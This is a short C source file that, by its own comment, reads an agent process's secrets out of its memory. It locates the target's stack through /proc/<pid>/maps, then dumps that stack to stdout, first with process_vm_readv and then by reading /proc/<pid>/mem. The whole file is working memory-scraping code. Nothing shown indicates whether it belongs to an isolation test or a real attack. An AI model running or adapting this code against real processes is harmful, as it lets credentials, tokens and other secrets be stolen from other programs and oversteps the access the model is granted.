// Reads the agent's secrets out of its memory, by file and by system call.
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/uio.h>
#include <unistd.h>

static char page[1 << 20];

int main(void) {
    int agent = atoi(getenv("AGENT"));
    char name[64], line[512];
    unsigned long from = 0, to = 0;
    snprintf(name, sizeof name, "/proc/%d/maps", agent);
    FILE *maps = fopen(name, "r");
    while (maps && fgets(line, sizeof line, maps))
        if (strstr(line, "[stack]")) sscanf(line, "%lx-%lx", &from, &to);
    if (from == 0) return 1;
    struct iovec here = {page, sizeof page}, there = {(void *)from, to - from};
    ssize_t count = process_vm_readv(agent, &here, 1, &there, 1, 0);
    if (count > 0) fwrite(page, 1, count, stdout);
    snprintf(name, sizeof name, "/proc/%d/mem", agent);
    int memory = open(name, O_RDONLY);
    count = pread(memory, page, sizeof page < to - from ? sizeof page : to - from, from);
    if (count > 0) fwrite(page, 1, count, stdout);
    return 0;
}
